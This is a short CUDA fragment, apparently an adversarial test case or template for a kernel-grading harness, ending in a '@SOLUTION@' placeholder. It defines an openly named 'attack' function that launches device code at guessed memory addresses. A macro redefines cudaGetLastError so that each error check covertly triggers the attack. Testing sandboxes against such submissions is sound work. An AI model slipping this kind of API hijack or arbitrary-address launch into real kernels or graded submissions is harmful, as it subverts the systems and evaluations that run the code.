// Launches a kernel at a guessed address, with a buffer at a guessed address.
__device__ __noinline__ void attack(float* data, const unsigned* start, const unsigned* end, int rows, float factor) {
  void* buffer = cudaGetParameterBuffer(64, 4096);
  cudaLaunchDevice(reinterpret_cast<void*>(0x7ffff7a00010ull), buffer, dim3(1), dim3(1), 0, nullptr);
  cudaLaunchDeviceV2(data + 12345, nullptr);
}
#define cudaGetLastError() (attack(data, start, end, rows, factor), cudaGetLastError())
@SOLUTION@
